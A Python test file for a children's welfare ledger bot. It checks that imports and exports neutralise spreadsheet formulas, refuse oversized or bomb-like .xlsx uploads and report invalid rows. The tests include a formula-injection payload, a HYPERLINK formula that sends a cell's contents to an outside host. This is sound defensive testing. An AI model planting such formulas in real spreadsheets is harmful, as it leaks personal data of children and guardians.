"""Ledger import and export safety (issue #12), from chat and from the command line: formula
cells come back as text, hostile uploads are refused with one line, and rows the database would
refuse are row errors in the dry run."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
from openpyxl.utils import get_column_letter
from sqlmodel import select

from bot import export_ledger
from care.idcard import make_id
from care.ledger import LEDGER_COLUMNS
from care.roles import Role
from sandbox import hostile
from sandbox.harness import Sandbox
from sandbox.people import SimPerson
from settings import Settings
from storage.models import Child
from tests.conftest import exported_ledger, register, sql, watch_errors
from tests.test_command_line import bot, sqlite

HYPERLINK = '=HYPERLINK("http://e.cn/?d="&F2,"详情")'
BORN = date(2015, 3, 1)


def row(number: int, **cells: str) -> list[str]:
    values = {
        "姓名": f"孩子{number}", "性别": "男", "出生日期": "2015-03-01",
        "身份证号": make_id("320999", BORN, 2 * number + 1), "儿童类别": "农村留守儿童",
        "风险等级": "黄", "县(区)": "示范县", "镇(街道)": "城关镇", "村(社区)": "东村",
    } | cells  # fmt: skip
    return [values.get(column, "") for column in LEDGER_COLUMNS]


def to_csv(*rows: list[str]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows([list(LEDGER_COLUMNS), *rows])
    return out.getvalue().encode("utf-8-sig")


def formula_cells(data: bytes) -> int:
    """Cells with a formula, in every sheet of an .xlsx."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    in_xml = sum(sheet.count(b"<f>") + sheet.count(b"<f ") for sheet in sheets)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    typed = sum(c.data_type == "f" for s in workbook.worksheets for r in s.iter_rows() for c in r)
    assert in_xml == typed
    return typed


async def admin(box: Sandbox) -> SimPerson:
    return await register(box, Role.ADMIN, "示范县", user_id=900, name="县管理员")


FORMULAS = to_csv(
    *(
        row(n, 学校=HYPERLINK, 监护人姓名='=HYPERLINK("http://e.cn/?d="&F2,"王")')
        for n in range(10)
    ),
    row(10),
)


async def test_formula_cells_are_reported_then_exported_as_text(
    box: Sandbox, tmp_path: Path
) -> None:
    person = await admin(box)
    await person.send_document("ledger.csv", FORMULAS)
    dry = person.last.text
    assert "新增 11 名" in dry and "拒绝 0 行" in dry  # reported, not rejected
    assert "请核对（这些行仍会导入）：" in dry
    assert "• 第 2 行「学校」：像是表格公式：=HYPERLINK(" in dry
    report = next(m for m in person.inbox if m.document)  # 20 warnings: all in the attachment
    assert report.document is not None
    assert report.document["content"].decode("utf-8-sig").count("像是表格公式") == 20
    await person.press("✅ 确认导入")
    assert "导入完成：新增 11 名" in person.last.text

    await person.send("/export")
    exported = exported_ledger(person)
    assert formula_cells(exported) == 0
    sheet = openpyxl.load_workbook(io.BytesIO(exported)).worksheets[0]
    schools = [c.value for c in sheet[get_column_letter(LEDGER_COLUMNS.index("学校") + 1)]]
    assert schools.count(HYPERLINK) == 10  # the text itself, kept
    await person.send_document("export.xlsx", exported)
    assert "新增 0 名，更新 0 名，无变化 11 名，拒绝 0 行" in person.last.text

    path = tmp_path / "out.xlsx"  # the command line writes the same
    assert await export_ledger(box.services.settings, path, "示范县") == 0
    assert formula_cells(path.read_bytes()) == 0


async def test_hostile_uploads_are_refused_with_one_line(box: Sandbox) -> None:
    person = await admin(box)
    cases = [
        (hostile.row_bomb(), "表格行数过多（上限 50,000 行），请按镇或村拆分后再发送。"),
        (hostile.shared_strings_bomb(), "文件中的文字过多（上限 20 MB），请按镇或村拆分后再发送。"),
        (hostile.far_cell("XFD1"), "表格列数过多（上限 64 列），请删去台账以外的列后再发送。"),
        (hostile.far_cell(), "表格行数过多（上限 50,000 行），请按镇或村拆分后再发送。"),
    ]
    for data, line in cases:
        [reply] = await person.send_document("台账.xlsx", data)
        assert reply.text == line and not reply.buttons
    async with box.services.sessions() as session:
        assert (await session.exec(select(Child))).all() == []


async def test_a_file_over_the_size_limit_is_refused_before_it_is_downloaded(
    migrated: Settings,
) -> None:
    small = migrated.model_copy(update={"ledger_max_file_mb": 0.5})
    sandbox = Sandbox(small)
    errors = watch_errors(sandbox)
    async with sandbox:
        person = await register(
            sandbox, Role.ADMIN, "示范县", user_id=900, name="Admin", language="English"
        )
        [reply] = await person.send_document("ledger.csv", b"x" * (600 * 1024))
        assert reply.text == "The file is too large (0.5 MB at most); split it by town or village."
        downloads = [c for c in sandbox.telegram.calls if c.method == "getFile"]
        assert downloads == []
    assert not errors


BAD_AREAS = to_csv(
    row(1),
    row(2, **{"村(社区)": "东" * 41}),
    row(3, **{"村(社区)": "东村/一组"}),
    row(4, 学校="学" * 300),
    row(5, **{"镇(街道)": "城关镇／新区"}),
)
ROW_ERRORS = [
    "第 3 行「村(社区)」：内容过长（41 个字，最多 40 个字）",
    "第 4 行「村(社区)」：地名中不能含有“/”：东村/一组",
    "第 5 行「学校」：内容过长（300 个字，最多 80 个字）",
    "第 6 行「镇(街道)」：地名中不能含有“/”：城关镇／新区",
]


async def test_what_storage_refuses_is_a_row_error_in_the_dry_run(box: Sandbox) -> None:
    person = await admin(box)
    await person.send_document("ledger.csv", BAD_AREAS)
    dry = person.last.text
    assert "新增 1 名，更新 0 名，无变化 0 名，拒绝 4 行" in dry
    for line in ROW_ERRORS:
        assert f"• {line}" in dry.splitlines(), line
    await person.press("✅ 确认导入")  # the good row is written, on PostgreSQL too
    assert "导入完成：新增 1 名，更新 0 名；拒绝 4 行未写入" in person.last.text
    async with box.services.sessions() as session:
        paths = (await sql(session, "SELECT path FROM area ORDER BY path")).all()
    assert [p[0] for p in paths] == ["示范县", "示范县/城关镇", "示范县/城关镇/东村"]


def test_the_command_line_dry_run_reports_the_same_row_errors(tmp_path: Path) -> None:
    url = sqlite(tmp_path)
    assert bot(tmp_path, "migrate", DATABASE_URL=url).returncode == 0
    ledger = tmp_path / "台账.csv"
    ledger.write_bytes(BAD_AREAS)
    result = bot(tmp_path, "import", str(ledger), "--dry-run", DATABASE_URL=url)
    # rows rejected: exit status 3, for scripts (README), in the dry run as in the import
    assert result.returncode == 3, result.stderr
    assert "Traceback" not in result.stderr
    assert "拒绝 4 行" in result.stdout and "未写入任何数据" in result.stdout
    for line in ROW_ERRORS:
        assert f"• {line}" in result.stdout.splitlines(), line
    result = bot(tmp_path, "import", str(ledger), DATABASE_URL=url)
    assert result.returncode == 3, result.stderr  # the accepted row is written all the same
    assert "导入完成：新增 1 名，更新 0 名；拒绝 4 行未写入" in result.stdout
    again = bot(tmp_path, "import", str(ledger), DATABASE_URL=url)
    assert again.returncode == 3 and "无变化 1 名" in again.stdout
    good = tmp_path / "good.csv"
    good.write_bytes(to_csv(row(20)))
    assert bot(tmp_path, "import", str(good), DATABASE_URL=url).returncode == 0

    bomb = tmp_path / "bomb.xlsx"
    bomb.write_bytes(hostile.row_bomb())
    result = bot(tmp_path, "import", str(bomb), "--dry-run", DATABASE_URL=url)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stdout.splitlines() == [
        "表格行数过多（上限 50,000 行），请按镇或村拆分后再发送。"
    ]
